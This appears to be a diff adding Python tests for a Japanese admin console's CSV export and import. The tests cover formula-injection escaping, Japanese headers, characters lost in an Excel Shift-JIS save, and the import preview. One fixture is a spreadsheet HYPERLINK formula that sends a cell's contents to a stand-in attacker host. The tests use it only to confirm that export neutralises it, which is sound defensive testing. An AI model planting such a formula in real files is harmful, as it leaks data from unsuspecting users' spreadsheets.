@@ -151,3 +151,122 @@ def test_zip_import_reports_yaml_problems_by_file(console, admin_client):
 
 def test_editors_cannot_import(console, editor_client):
     assert _upload(editor_client, "x.csv", b"slug\n").status_code == 403
+
+
+# Issue 10: formula injection, and issue 11: what Excel does to a CSV on a Japanese Windows PC.
+
+FORMULA = '=HYPERLINK("http://ev.il/?"&A2,"x")'
+
+
+def _raw_cells(raw: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def _plan_cells(html: str, slug: str) -> str:
+    row = html.split(f"<code>{slug}</code>", 1)[1].split("</tr>", 1)[0]
+    return re.sub(r"<[^>]+>", "|", row)
+
+
+def test_csv_export_neutralises_formulas_and_import_undoes_it(console, admin_client):
+    with console.app_context():
+        lunch = entry("school-lunch-free")
+        lunch.title = FORMULA
+        lunch.questions = ["@SUM(A1)", "＝1+1", *lunch.questions[2:]]
+        lunch.answer = "'引用符で始まる回答"
+        db.session.commit()
+    raw = admin_client.get("/admin/export.csv").data
+    header, *rows = _raw_cells(raw)
+    cells = rows[[r[0] for r in rows].index("school-lunch-free")]
+    title, answer, questions = (cells[header.index(field_label(k))] for k in ("title", "answer", "questions"))
+    assert title == "'" + FORMULA  # Excel shows it as text, never as a live link
+    assert questions.startswith("'@SUM(A1)\n＝1+1")  # a cell starts once, however many lines it holds
+    assert answer == "''引用符で始まる回答"
+    assert all(not c.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")) for r in rows for c in r)
+    # Export → import is a no-op: the quotes come off again, and one that belongs to the text stays.
+    before = _snapshot(console)
+    html = _upload(admin_client, "same.csv", raw).get_data(as_text=True)
+    assert "変更なし" in _plan_cells(html, "school-lunch-free")
+    assert "取り込む変更はありません" in html and 'name="token"' not in html
+    assert _snapshot(console) == before
+
+
+def test_csv_speaks_japanese_and_still_reads_english_headers(console, admin_client):
+    raw = admin_client.get("/admin/export.csv").data
+    header, *rows = _raw_cells(raw)
+    assert header == ["識別名", "タイトル", "カテゴリ", "状態", "回答", "想定質問", "キーワード", "詳しいページのURL",
+                      "お問い合わせ先", "出典", "情報の更新日", "見直し期限", "確認メモ"]
+    assert {r[header.index("状態")] for r in rows} <= {"公開", "下書き"}
+    english = _csv_rows(raw)
+    for row in english:
+        row["status"] = {"公開": "published", "下書き": "draft"}[row["status"]]
+    english[0]["answer"] = "英語の見出しで変えた回答"
+    html = _upload(admin_client, "english.csv", _csv(english, japanese=False)).get_data(as_text=True)
+    assert "不明な列" not in html and "1件を取り込む" in html
+    admin_client.post("/admin/import/apply", data={"token": _token(html)})
+    with console.app_context():
+        assert entry(english[0]["slug"]).answer == "英語の見出しで変えた回答"
+
+
+def _excel_cp932_save(raw: bytes) -> bytes:
+    """Return the file Excel's plain "CSV" save writes on Japanese Windows: cp932, "?" for what it lacks."""
+    return raw.decode("utf-8-sig").encode("cp932", errors="replace")
+
+
+def _damaged(rows: list[dict]) -> list[str]:
+    """Return the slugs of rows with text cp932 cannot carry (⑴, and 〜 which comes back as ～)."""
+    return [r["slug"] for r in rows if any(v != v.encode("cp932", "replace").decode("cp932") for v in r.values())]
+
+
+def test_a_shift_jis_save_changes_nothing_silently(console, admin_client):
+    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
+    damaged = _damaged(rows)
+    assert len(damaged) >= 5  # the plan's sources say ⑴, and some texts 令和2〜6年度
+    edited = next(r for r in rows if r["slug"] not in damaged)
+    edited["answer"] = "Excelで直した回答"
+    upload = _excel_cp932_save(_csv(rows))
+    before = _snapshot(console)
+    html = _upload(admin_client, "excel.csv", upload).get_data(as_text=True)
+    assert f"{len(damaged)}件の回答で、文字が失われた可能性があります" in html
+    for slug in damaged:
+        assert "文字が失われた可能性" in _plan_cells(html, slug)
+    assert "「⑴」が、ファイルでは別の文字" in html
+    assert "1件を取り込む" in html  # only the real edit changes without confirmation
+    assert 'name="confirm_lost"' in html
+    assert _snapshot(console) == before
+    admin_client.post("/admin/import/apply", data={"token": _token(html)})
+    with console.app_context():
+        assert entry(edited["slug"]).answer == "Excelで直した回答"
+        for slug in damaged:  # not one character of theirs was replaced
+            assert entry(slug).content() == before[0][slug]
+
+
+def test_lost_characters_are_written_only_when_confirmed(console, admin_client):
+    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
+    damaged = [r["slug"] for r in rows if "⑴" in r["source"]]
+    assert len(damaged) >= 3
+    html = _upload(admin_client, "excel.csv", _excel_cp932_save(_csv(rows))).get_data(as_text=True)
+    assert "チェックした項目を取り込む" in html and f"ほかに{len(_damaged(rows))}件の回答も変わります" in html
+    admin_client.post("/admin/import/apply", data={"token": _token(html), "confirm_lost": "y"})
+    with console.app_context():
+        assert all("?" in entry(slug).source and "⑴" not in entry(slug).source for slug in damaged)
+
+
+def test_preview_shows_before_and_after_with_japanese_field_names(console, admin_client):
+    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
+    old_answer = rows[0]["answer"].split("\n")[0]
+    rows[0]["answer"] = "取り込みで変えた回答"
+    rows[0]["status"] = "下書き" if rows[0]["status"] == "公開" else "公開"
+    html = _upload(admin_client, "edited.csv", _csv(rows)).get_data(as_text=True)
+    assert "回答、" in _plan_cells(html, rows[0]["slug"]) or "回答|" in _plan_cells(html, rows[0]["slug"])
+    assert ">answer<" not in html and ">status<" not in html
+    assert re.search(r'class="del">− ' + re.escape(old_answer), html)
+    assert 'class="ins">＋ 取り込みで変えた回答' in html
+    assert re.search(r'class="(del|ins)">[−＋] (公開|下書き)<', html)  # states in Japanese too
+
+
+def test_apply_button_counts_only_the_entries_that_change(console, admin_client):
+    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
+    assert len(rows) >= 20
+    rows[3]["keywords"] += "\n追加のキーワード"
+    html = _upload(admin_client, "one.csv", _csv(rows)).get_data(as_text=True)
+    assert "1件を取り込む" in html and f"{len(rows)}件を取り込む" not in html
